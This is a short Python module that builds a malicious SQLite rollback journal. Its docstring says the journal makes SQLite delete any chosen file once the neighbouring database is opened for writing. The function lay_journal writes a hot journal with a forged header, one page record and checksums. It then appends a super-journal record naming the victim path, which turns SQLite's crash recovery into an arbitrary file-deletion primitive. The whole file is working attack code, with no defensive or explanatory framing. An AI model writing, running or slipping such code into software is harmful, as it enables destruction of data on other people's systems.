"""A rollback journal that makes SQLite delete any file once it opens the one beside it for writing."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR, _LOCK_BYTE = 512, 0x40000000


def lay_journal(path: Path, victim: str) -> Path:
    """Lay a journal beside a file that names another one as its super-journal; return the journal."""
    raw = path.read_bytes()
    size = struct.unpack(">H", raw[16:18])[0]
    size = 65536 if size == 1 else size
    page = raw[:size]
    head = struct.pack(">IIIII", 1, 0, len(raw) // size, _SECTOR, size)
    name = victim.encode()
    journal = path.with_name(path.name + "-journal")
    journal.write_bytes(
        (_MAGIC + head).ljust(_SECTOR, b"\0")
        + struct.pack(">I", 1)
        + page
        + struct.pack(">I", sum(page[at] for at in range(size - 200, 0, -200)))
        + struct.pack(">I", _LOCK_BYTE // size + 1)
        + name
        + struct.pack(">II", len(name), sum(name))
        + _MAGIC
    )
    return journal
